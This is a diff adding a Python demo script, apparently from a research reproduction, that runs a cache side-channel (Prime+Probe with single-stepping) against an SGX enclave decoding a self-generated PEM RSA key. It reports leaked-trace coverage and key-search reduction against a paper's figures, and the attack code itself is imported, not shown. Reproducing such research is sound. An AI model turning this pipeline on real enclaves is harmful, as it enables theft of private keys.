@@ -1,0 +1,61 @@
+#!/usr/bin/env python3
+"""§5.2 demo: SGX-Step from userspace against PEM key decoding.
+
+Generates a real 1024-bit RSA private key, PEM-encodes it, and attacks
+the enclave decoding it with LLC Prime+Probe under Controlled
+Preemption.  A single run's preemption budget covers ~60 % of the
+~870-character base64 trace; a second, delayed run of the same key
+covers the tail, and the two are stitched at EVP_DecodeUpdate's
+64-character group boundaries.
+
+Each recovered bit (which of the two LUT cache lines a character's
+lookup touched) halves that character's search space — the Sieck et al.
+cryptanalysis turns the full trace into full RSA key recovery.
+
+Run:  python examples/sgx_pem_attack.py [seed]
+"""
+
+import random
+import sys
+
+from repro.analysis.base64_cryptanalysis import search_space_report
+from repro.attacks.sgx_base64 import run_sgx_base64_attack
+from repro.victims.rsa import generate_rsa_key, pem_base64_body
+
+
+def main(seed: int = 5) -> None:
+    key = generate_rsa_key(1024, rng=random.Random(seed))
+    body = pem_base64_body(key)
+    print(f"victim: {key.bits}-bit RSA key, {len(body)} base64 characters "
+          f"(decoded inside an LVI-mitigated SGX enclave)")
+    print("run 1: attacking from the start of the decode...")
+    print("run 2: hibernating past ~60 % of run 1's coverage, attacking "
+          "the tail...")
+    result = run_sgx_base64_attack(body, seed=seed)
+
+    print()
+    trace = "".join(
+        "·" if v is None else str(v) for v in result.stitched_trace[:128]
+    )
+    print(f"stitched LUT-line trace (first 128 chars): {trace}")
+    print()
+    print(f"single run : {result.single_run_coverage:6.1%} of the trace, "
+          f"{result.single_run_accuracy:6.2%} accurate "
+          f"(paper: 61.5 % @ 99.2 %)")
+    print(f"two runs   : {result.stitched_coverage:6.1%} of the trace, "
+          f"{result.stitched_accuracy:6.2%} accurate "
+          f"(paper: 100 % @ 98.9 %)")
+    report = search_space_report(result.stitched_trace, body)
+    print()
+    print(f"cryptanalysis input: {report.observed_chars}/{report.total_chars} "
+          f"characters observed, {report.correct_chars} correct")
+    print(f"key search space cut by 2^{report.reduction_bits:.0f} "
+          f"(≈10^{report.reduction_factor_log10:.0f}) — the reduction "
+          "Sieck et al. turn into full RSA key recovery")
+    print()
+    print("no supervisor privilege was used — this is SGX-Step-like "
+          "stepping from plain userspace.")
+
+
+if __name__ == "__main__":
+    main(int(sys.argv[1]) if len(sys.argv) > 1 else 5)
